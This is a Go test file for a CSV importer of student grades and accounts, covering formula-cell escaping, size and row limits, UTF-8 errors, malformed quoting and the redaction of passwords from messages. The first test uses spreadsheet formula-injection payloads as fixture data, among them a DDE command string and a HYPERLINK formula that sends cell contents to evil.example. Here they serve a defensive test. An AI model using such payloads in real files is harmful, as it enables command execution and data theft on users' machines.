package csvio

import (
	"errors"
	"io"
	"runtime"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const gradesHeader = "Student Id,Student Email,Student Name,Final Grade,Feedback\r\n"

// Formula-looking cells are data on import: they are stored as text (the
// export escapes them), and only lose the export's own apostrophe.
func TestFormulaCellsImportAsText(t *testing.T) {
	in := gradesHeader +
		`ST1,a@x.ac.uk,=1+1,70,"=cmd|' /C calc'!A0"` + "\r\n" +
		`ST2,b@x.ac.uk,'=1+1,71,'@SUM(A1:A9)` + "\r\n" +
		`-ST3,c@x.ac.uk,+Plus,72,'plain apostrophe` + "\r\n" +
		`ST4,"=HYPERLINK(""http://evil.example/?q=""&A1,""d@x.ac.uk"")",Dara,73,x` + "\r\n" +
		`ST5,e@x.ac.uk,''=Two,74,"'	tab"` + "\r\n"
	f := mustParse(t, KindFinalGrades, in)
	want := File{
		Kind: KindFinalGrades,
		Rows: 5,
		Grades: []Grade{
			{Line: 2, StudentCode: "ST1", StudentEmail: "a@x.ac.uk", StudentName: "=1+1", Grade: 70, Feedback: "=cmd|' /C calc'!A0"},
			{Line: 3, StudentCode: "ST2", StudentEmail: "b@x.ac.uk", StudentName: "=1+1", Grade: 71, Feedback: "@SUM(A1:A9)"},
			{Line: 4, StudentCode: "-ST3", StudentEmail: "c@x.ac.uk", StudentName: "+Plus", Grade: 72, Feedback: "'plain apostrophe"},
			{Line: 6, StudentCode: "ST5", StudentEmail: "e@x.ac.uk", StudentName: "'=Two", Grade: 74, Feedback: "tab"},
		},
		Errors: []RowError{
			{Line: 5, Message: `Student Email "=hyperlink(\"http://evil.example/?q=\"&a1,…" is not a valid e-mail address`},
		},
	}
	if diff := cmp.Diff(want, f); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestQuoteShowsAtMost40Characters(t *testing.T) {
	long := strings.Repeat("é", 39) + "xyz"
	if got, want := quote(long), `"`+strings.Repeat("é", 39)+`x…"`; got != want {
		t.Errorf("quote = %s, want %s", got, want)
	}
	if got := quote("exactly forty characters, no ellipsis.."); strings.Contains(got, "…") {
		t.Errorf("quote = %s", got)
	}
	if got := quote("line\nbreak\x00"); got != `"line\nbreak\x00"` {
		t.Errorf("control characters must be escaped, got %s", got)
	}
}

// oneRowOfSize is a final-grades file of exactly n bytes whose one row has a
// single huge Feedback cell.
func oneRowOfSize(n int) string {
	prefix := gradesHeader + "ST1,a@x.ac.uk,Amira,70,"
	return prefix + strings.Repeat("x", n-len(prefix)-2) + "\r\n"
}

func TestTooLargeRefused(t *testing.T) {
	in := oneRowOfSize(DefaultMaxBytes + 1)
	if len(in) != 10<<20+1 {
		t.Fatalf("input is %d bytes", len(in))
	}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	f, err := Parse(KindFinalGrades, strings.NewReader(in), Limits{})
	runtime.ReadMemStats(&after)
	if !errors.Is(err, ErrTooLarge) || err.Error() != "the file is too large: the limit is 10 MiB" {
		t.Fatalf("err = %v, want ErrTooLarge with the limit", err)
	}
	if kept(f) != 0 || f.Rows != 0 {
		t.Errorf("a refused file keeps nothing: %+v", f.Rows)
	}
	t.Logf("allocated %d bytes for a %d-byte file", after.TotalAlloc-before.TotalAlloc, len(in))
	// encoding/csv copies a line a few times (read buffer, record buffer,
	// string): linear in the limit, which is what bounds an upload's cost.
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 10*uint64(len(in)) {
		t.Errorf("parsing a %d-byte file allocated %d bytes", len(in), alloc)
	}

	// At exactly the limit the file is read, and the huge cell is a row error.
	f, err = Parse(KindFinalGrades, strings.NewReader(oneRowOfSize(DefaultMaxBytes)), Limits{})
	if err != nil {
		t.Fatal(err)
	}
	want := []RowError{{2, "Feedback is longer than 10000 characters"}}
	if diff := cmp.Diff(want, f.Errors); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// endless is a client that never stops sending.
type endless struct{ read int64 }

func (e *endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	e.read += int64(len(p))
	return len(p), nil
}

func TestEndlessUploadStopsAtLimit(t *testing.T) {
	src := &endless{}
	r := io.MultiReader(strings.NewReader(gradesHeader), src)
	_, err := Parse(KindFinalGrades, r, Limits{MaxBytes: 1 << 20})
	if !errors.Is(err, ErrTooLarge) || !strings.Contains(err.Error(), "1 MiB") {
		t.Fatalf("err = %v", err)
	}
	if src.read > 1<<20 {
		t.Errorf("read %d bytes from an endless body, want at most the limit", src.read)
	}
}

func TestHugeCellsAreRowErrors(t *testing.T) {
	huge := strings.Repeat("y", 2<<20)
	in := "Student Id,Student Email,Student Name,Final Grade,Feedback,Notes\n" +
		"ST1,a@x.ac.uk,Amira,70,ok,fine\n" +
		"ST2,b@x.ac.uk,Ben,71," + huge + ",\n" +
		"ST3,c@x.ac.uk,Chen,72,ok," + huge + "\n" +
		"ST4,d@x.ac.uk,Dara,73,ok,\n"
	f := mustParse(t, KindFinalGrades, in)
	want := []RowError{
		{3, "Feedback is longer than 10000 characters"},
		{4, "Column 6 is longer than 10000 characters"},
	}
	if diff := cmp.Diff(want, f.Errors); diff != "" || len(f.Grades) != 2 {
		t.Errorf("kept %d; errors (-want +got):\n%s", len(f.Grades), diff)
	}
}

func TestInvalidUTF8IsReportedPerRow(t *testing.T) {
	in := studentsHeader +
		"ST1,Amira,,,,,a@x.ac.uk,,\n" + // 2
		"ST2,B\xffn,,,,,b@x.ac.uk,,\n" + // 3
		"ST3,Chen,\"Enro\nlled\xc3\",,,,c@x.ac.uk,,\n" + // 4-5, truncated sequence in a multi-line cell
		"ST4,Dara,,,,,d@x.ac.uk,,Secret\xfe\n" + // 6, in the password
		"ST5,Eli,,,,,e@x.ac.uk,,\n" // 7
	f := mustParse(t, KindStudents, in)
	want := []RowError{
		{3, `Name is not valid UTF-8; save the file as "CSV UTF-8"`},
		{4, `Enrolment Status is not valid UTF-8; save the file as "CSV UTF-8"`},
		{6, `Password is not valid UTF-8; save the file as "CSV UTF-8"`},
	}
	if diff := cmp.Diff(want, f.Errors); diff != "" || len(f.People) != 2 {
		t.Errorf("kept %d; errors (-want +got):\n%s", len(f.People), diff)
	}
}

func TestPasswordsNeverInMessages(t *testing.T) {
	const secret = "Hunter2-Secret"
	in := studentsHeader +
		"ST1,Amira,,,,,a@x.ac.uk,a,  '=" + secret + "  \n" + // kept, only trimmed
		"ST2,Ben,,,,,not-an-email,b," + secret + "\n" +
		"ST3,Chen,,,,,c@x.ac.uk," + secret + "\n" + // shifted: one value short
		"ST4,Dara,,,,,d@x.ac.uk,d," + secret + strings.Repeat("!", 30) + "\n" + // too long
		"ST5,Eli,,,,,e@x.ac.uk,e," + secret + "\xff\n" + // invalid UTF-8
		"ST6,Eli,,,,,a@x.ac.uk,e,\"" + secret + "\n\"\n" // duplicate, multi-line password
	f, err := Parse(KindStudents, strings.NewReader(in), Limits{MaxField: 40})
	if err != nil {
		t.Fatal(err)
	}
	if len(f.People) != 1 || f.People[0].Password != "'="+secret {
		t.Fatalf("kept %+v", f.People)
	}
	if len(f.Errors) != 5 {
		t.Errorf("want 5 errors, got %v", f.Errors)
	}
	for _, e := range f.Errors {
		if strings.Contains(strings.ToLower(e.Message), strings.ToLower(secret[:7])) {
			t.Errorf("line %d reveals the password: %s", e.Line, e.Message)
		}
	}
}

func TestTooManyRows(t *testing.T) {
	rows := "ST1,Amira,,,,,a@x.ac.uk,,\n\n\nST2,Ben,,,,,bad,,\n,,,,,,,,\nST3,Chen,,,,,c@x.ac.uk,,\n"
	f, err := Parse(KindStudents, strings.NewReader(studentsHeader+rows), Limits{MaxRows: 3})
	if err != nil || f.Rows != 3 {
		t.Fatalf("three rows (blank lines not counted) must pass: rows %d, err %v", f.Rows, err)
	}
	_, err = Parse(KindStudents, strings.NewReader(studentsHeader+rows+"ST4,Dara,,,,,d@x.ac.uk,,\n"), Limits{MaxRows: 3})
	if !errors.Is(err, ErrTooManyRows) || !strings.Contains(err.Error(), "3 rows") {
		t.Errorf("err = %v, want ErrTooManyRows", err)
	}
}

func TestMalformedCSVRows(t *testing.T) {
	in := studentsHeader +
		"ST1,Amira,,,,,a@x.ac.uk,,\n" + // 2
		"ST2,Ben \"The Bear\" Osei,,,,,b@x.ac.uk,,\n" + // 3: bare quote
		"ST3,\"Chen\"x,,,,,c@x.ac.uk,,\n" + // 4: text after the closing quote
		"ST4,Dara,,,,,d@x.ac.uk,,\n" + // 5
		"ST5,\"Eli,,,,,e@x.ac.uk,,\n" + // 6: never closed...
		"ST6,Fatima,,,,,f@x.ac.uk,,\n" // 7: ...so this line is inside it
	f := mustParse(t, KindStudents, in)
	want := []RowError{
		{3, `Row has a double quote (") inside a value that does not start with one; put the whole value in double quotes and write each quote inside it twice ("")`},
		{4, "Row has a quoted value that is not closed properly, or text after its closing quote"},
		{6, "Row has a quoted value, read from line 6 to line 7, that is not closed properly or has text after its closing quote"},
	}
	if diff := cmp.Diff(want, f.Errors); diff != "" {
		t.Errorf("errors (-want +got):\n%s", diff)
	}
	if len(f.People) != 2 || f.People[1].Line != 5 || f.Rows != 5 {
		t.Errorf("rows %d, kept %+v", f.Rows, f.People)
	}
}
